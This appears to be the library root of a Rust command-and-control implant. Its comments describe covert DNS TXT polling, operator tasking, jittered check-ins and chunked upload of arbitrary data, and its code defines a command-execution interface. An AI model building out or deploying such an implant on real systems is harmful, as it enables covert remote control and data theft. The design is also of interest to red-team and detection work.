//! Agent library for the DNS tasking channel.
//!
//! This crate provides the core pieces used by the `agent` binary:
//! - The `auth` and `codec` modules build authenticated DNS query names
//!   (prefix, transaction id, optional payload label, HMAC tag, domain).
//! - The `channel` module performs the actual TXT lookups with bounded retry
//!   and reassembles split TXT character-strings into one response buffer.
//! - The `transfer` module fragments arbitrary payloads into label-sized
//!   chunks and drives the synchronous ACK/END upload protocol.
//! - The `runloop` module is the tasking state machine: check-in, jittered
//!   polling, command dispatch and result delivery.
//! - The `service` module wraps the same loop in a background thread for
//!   embedding scenarios.
//! - The `error` module defines error types used across the library.
//!
//! Design notes:
//! - All mutable protocol state (sequence counters, configuration, identity)
//!   lives in an `AgentSession` that is moved into whichever loop runs, so
//!   there is no hidden global state and the two entry points cannot race.
//! - The resolver sits behind the small `TxtQuery` trait so the transfer and
//!   polling logic can be exercised against scripted responses in tests.
pub mod auth;
pub mod channel;
pub mod checkin;
pub mod codec;
pub mod commands;
pub mod config;
pub mod error;
pub mod runloop;
pub mod service;
pub mod session;
pub mod tasking;
pub mod transfer;

/// Outcome of executing one tasked command.
///
/// `success` mirrors whether the name matched a known handler; `output` is
/// the textual result delivered back over the channel. `terminate` is set
/// only by the `exit` command and stops the tasking loop without sending a
/// result.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExecOutcome {
    pub success: bool,
    pub output: String,
    pub terminate: bool,
}

impl ExecOutcome {
    /// A successful result carrying `output`.
    pub fn ok(output: String) -> Self {
        Self {
            success: true,
            output,
            terminate: false,
        }
    }

    /// A failed result carrying `output` (still delivered to the operator).
    pub fn failed(output: String) -> Self {
        Self {
            success: false,
            output,
            terminate: false,
        }
    }
}

/// The command-execution collaborator consumed by the tasking loop.
///
/// Implementors receive the command name (first space-separated token of the
/// tasking line) and the remaining argument string. The configuration is
/// passed mutably because the `sleep` handler rewrites the polling interval
/// at runtime; everything else treats it as read-only.
pub trait CommandExecutor {
    /// Execute a named command and return its textual result.
    fn execute(
        &mut self,
        name: &str,
        args: &str,
        config: &mut config::AgentConfig,
    ) -> ExecOutcome;
}
